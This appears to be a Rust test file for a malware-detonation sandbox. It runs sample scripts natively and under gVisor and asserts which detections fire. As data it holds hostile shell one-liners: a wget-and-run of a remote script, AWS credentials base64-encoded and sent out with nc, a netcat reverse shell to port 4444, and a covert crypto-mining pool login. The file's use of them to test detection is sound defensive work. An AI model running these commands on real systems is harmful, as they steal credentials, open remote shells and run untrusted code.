//! What scripts are accused of.

use crate::image::{run, run_with};
use detonate::{Detonation, Engine};
use model::Role;

type Case = (&'static str, fn());

pub(crate) const CASES: &[Case] = &[
    ("a_script_that_does_nothing", a_script_that_does_nothing),
    ("a_login_at_a_pool", a_login_at_a_pool),
    ("a_download_that_is_run", a_download_that_is_run),
    ("secrets_that_leave", secrets_that_leave),
    ("a_long_wait_before_it_mines", a_long_wait_before_it_mines),
    ("a_reverse_shell", a_reverse_shell),
    ("the_same_under_gvisor", the_same_under_gvisor),
];

/// The ids of what convicts or corroborates, sorted.
fn accused(script: &str) -> Vec<String> {
    ids(&run(script, 25))
}

fn ids(detonation: &Detonation) -> Vec<String> {
    let mut ids: Vec<String> = detonation
        .outcome
        .findings
        .iter()
        .filter(|finding| finding.role != Role::Context)
        .map(|finding| finding.id.clone())
        .collect();
    ids.sort();
    ids.dedup();
    if std::env::var_os("SHOW").is_some() {
        for finding in &detonation.outcome.findings {
            println!("  {} {} {:?}", finding.id, finding.explanation, finding.evidence);
        }
        for run in &detonation.runs {
            println!(
                "  run {} {} events {} ms skipped {} s: {}",
                run.name, run.events, run.milliseconds, run.skipped, run.ended
            );
            println!("  {:?} {:?}", run.limitations, String::from_utf8_lossy(&run.output));
        }
        println!("  gaps {:?} not {:?}", detonation.outcome.gaps, detonation.summary.not_exercised);
    }
    ids
}

fn a_script_that_does_nothing() {
    assert_eq!(accused("echo hello; id; ls /"), [""; 0]);
}

const LOGIN: &str = r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"someone","pass":"x","agent":"w/1","algo":["rx/0"]}}"#;

fn a_login_at_a_pool() {
    let ids = accused(&format!("(echo '{LOGIN}'; sleep 2) | nc pool.invalid 443"));
    assert!(ids.contains(&"D-MIN-STRATUM".to_owned()), "{ids:?}");
}

fn a_download_that_is_run() {
    let ids = accused("wget -q -O /tmp/x http://203.0.113.7/x.sh && chmod +x /tmp/x && /tmp/x");
    assert!(ids.contains(&"D-DLX-FETCHEXEC".to_owned()), "{ids:?}");
    let ids = accused("wget -q -O - http://203.0.113.7/x.sh | sh");
    assert!(ids.contains(&"D-DLX-PIPESH".to_owned()), "{ids:?}");
}

fn secrets_that_leave() {
    let ids = accused("cat $HOME/.aws/credentials | base64 | nc -w 2 203.0.113.7 8080");
    assert!(ids.contains(&"D-EXF-CANARY".to_owned()), "{ids:?}");
}

fn a_long_wait_before_it_mines() {
    let ids = accused(&format!("sleep 21600; (echo '{LOGIN}'; sleep 1) | nc pool.invalid 3333"));
    assert!(ids.contains(&"D-MIN-STRATUM".to_owned()), "{ids:?}");
}

fn a_reverse_shell() {
    let ids = accused("nc 203.0.113.7 4444 -e /bin/sh");
    assert!(ids.contains(&"D-C2-REVSH".to_owned()), "{ids:?}");
    assert!(ids.contains(&"D-C2-ELICIT".to_owned()), "{ids:?}");
}

/// What convicts natively convicts under gVisor, with the process that did it; what it cannot show is said.
fn the_same_under_gvisor() {
    if !rustix::process::geteuid().is_root() {
        return println!("skipped: the_same_under_gvisor: gVisor needs root here");
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    let directories: Vec<_> = std::env::split_paths(&path).collect();
    let runsc = match sandbox::Runsc::find(directories.iter().map(std::path::PathBuf::as_path)) {
        Ok(runsc) => runsc,
        Err(error) => {
            let excused = std::env::var_os("CI").is_none() || std::env::var_os("NO_GVISOR").is_some();
            assert!(excused, "{error}");
            return println!("skipped: the_same_under_gvisor: {error}");
        }
    };
    let check = |script: &str, expect: &[&str]| {
        let detonation = run_with(Engine::Gvisor(runsc.clone()), script, 40);
        let found = ids(&detonation);
        let all = expect.iter().all(|id| found.iter().any(|found| found == id));
        assert!(
            all && expect.is_empty() == found.is_empty(),
            "{script}: {found:?} {:?}",
            detonation.outcome.gaps
        );
        assert_eq!(detonation.summary.engine, "gvisor");
        let said = |what: &str| detonation.summary.not_exercised.iter().any(|line| line.contains(what));
        assert!(said("calendar") && said("waiting"), "{:?}", detonation.summary.not_exercised);
        detonation
    };
    // What is removed at once may be gone before gVisor tells of it, which is a gap: nothing of it is tried here.
    let clean =
        check("echo hello; id; ls /; date > /tmp/x; mv /tmp/x /tmp/y; mkdir /tmp/z; rmdir /tmp/z", &[]);
    assert!(clean.outcome.gaps.is_empty(), "{:?}", clean.outcome.gaps);
    check(&format!("(echo '{LOGIN}'; sleep 2) | nc pool.invalid 443"), &["D-MIN-STRATUM"]);
    check("wget -q -O /tmp/x http://203.0.113.7/x.sh && chmod +x /tmp/x && /tmp/x", &["D-DLX-FETCHEXEC"]);
    let reverse = check("nc 203.0.113.7 4444 -e /bin/sh", &["D-C2-REVSH"]);
    assert!(reverse.summary.network.iter().any(|flow| flow.port == 4444 && flow.process.is_some()));
}
